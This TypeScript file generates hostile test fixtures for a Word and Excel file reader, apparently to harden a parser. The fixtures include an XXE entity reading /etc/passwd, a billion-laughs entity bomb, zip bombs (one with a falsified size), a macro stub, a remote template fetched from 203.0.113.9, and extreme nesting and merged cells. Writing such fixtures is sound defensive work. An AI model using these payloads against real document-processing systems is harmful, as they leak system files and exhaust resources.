import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { docxParts, writeZip } from './write-docx.ts';

const paper = '\n电工岗位职责\n1、每日巡查配电室；';

/** Files that hang, blow up or reach out when they are read carelessly. Each must end in a message or a harmless preview. */
export async function writeHostileFiles(folder: string): Promise<void> {
  mkdirSync(folder, { recursive: true });
  const at = (name: string): string => join(folder, name);
  const parts = docxParts(paper);
  const document = parts['word/document.xml'] ?? '';
  const withDocument = (xml: string): Record<string, string> => ({ ...parts, 'word/document.xml': xml });
  const prolog = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
  await writeZip(
    at('xxe.docx'),
    withDocument(
      document
        .replace(prolog, `${prolog}<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>`)
        .replace('每日巡查', '&x;每日巡查'),
    ),
  );
  const laughs = Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join(
    '',
  );
  await writeZip(
    at('entity-bomb.docx'),
    withDocument(document.replace(prolog, `${prolog}<!DOCTYPE w [<!ENTITY l0 "哈">${laughs}]>`)),
  );
  await writeZip(at('zip-bomb.docx'), { ...parts, 'word/media/a.bin': Buffer.alloc(120 * 1024 * 1024) });
  writeFileSync(at('lying-size.docx'), lyingZip());
  await writeZip(at('macros.docx'), { ...parts, 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') });
  await writeZip(at('external.docx'), {
    ...parts,
    'word/_rels/document.xml.rels':
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/></Relationships>',
  });
  await writeZip(
    at('deep.docx'),
    withDocument(
      document.replace(
        '<w:sectPr/>',
        `${'<w:sdt><w:sdtContent>'.repeat(50_000)}${'</w:sdtContent></w:sdt>'.repeat(50_000)}`,
      ),
    ),
  );
  await writeZip(
    at('wide-span.docx'),
    withDocument(
      document.replace(
        '<w:sectPr/>',
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>',
      ),
    ),
  );
  const cell = '<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>';
  await writeZip(
    at('merged-cells.docx'),
    withDocument(document.replace('<w:sectPr/>', `<w:tbl>${`<w:tr>${cell.repeat(60)}</w:tr>`.repeat(6_000)}</w:tbl>`)),
  );
  await writeZip(at('merged-cells.xlsx'), sheetParts(mergedSheet(30_000)));
  await writeZip(
    at('endless-merge.xlsx'),
    sheetParts(
      '<row r="1"><c r="A1" t="inlineStr"><is><t>岗位</t></is></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
      '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    ),
  );
  const whole = Buffer.from(at('macros.docx'));
  writeFileSync(at('truncated.docx'), Buffer.concat([Buffer.from('504b0304', 'hex'), whole]));
  writeFileSync(at('old-word.docx'), Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4096)]));
  writeFileSync(at('page.docx'), '<html><body>岗位职责</body></html>');
  writeFileSync(at('paper.pdf.docx'), '%PDF-1.7\n');
  writeFileSync(at('rich.docx'), '{\\rtf1\\ansi 岗位}');
  writeFileSync(at('picture.xlsx'), Buffer.from('89504e470d0a1a0a', 'hex'));
  writeFileSync(at('empty.docx'), '');
  writeFileSync(at('noise.csv'), Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256)));
  writeFileSync(at('slow-words.txt'), `${'岗位职责'.repeat(20_000)}\n${'1、'.repeat(20_000)}\n${'（'.repeat(50_000)}`);
}

function sheetParts(rows: string, after = ''): Record<string, string> {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return {
    '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
    '_rels/.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
    'xl/workbook.xml': `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="Sheet1" sheetId="1" r:id="r1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><worksheet xmlns="${main}"><sheetData>${rows.includes('mergeCells') ? rows.split('@')[0] : rows}</sheetData>${rows.includes('@') ? rows.split('@')[1] : after}</worksheet>`,
  };
}

/** 0.8 MB of merged cells, side by side. */
function mergedSheet(count: number): string {
  const rows = Array.from(
    { length: count },
    (_, index) => `<row r="${index + 1}"><c r="A${index + 1}" t="inlineStr"><is><t>岗</t></is></c></row>`,
  ).join('');
  const merges = Array.from({ length: count }, (_, index) => `<mergeCell ref="A${index + 1}:Z${index + 1}"/>`).join('');
  return `${rows}@<mergeCells count="${count}">${merges}</mergeCells>`;
}

/** A part that says that it is ten bytes long and unpacks to 64 MB. */
function lyingZip(): Buffer {
  const name = Buffer.from('word/document.xml');
  const packed = deflateRawSync(Buffer.alloc(64 * 1024 * 1024));
  const fixed = Buffer.alloc(26);
  fixed.writeUInt16LE(20, 0);
  fixed.writeUInt16LE(8, 4);
  fixed.writeUInt32LE(crc32(Buffer.alloc(10)), 10);
  fixed.writeUInt32LE(packed.length, 14);
  fixed.writeUInt32LE(10, 18);
  fixed.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('504b0304', 'hex'), fixed, name, packed]);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  fixed.copy(central, 6, 0, 26);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, name, end]);
}
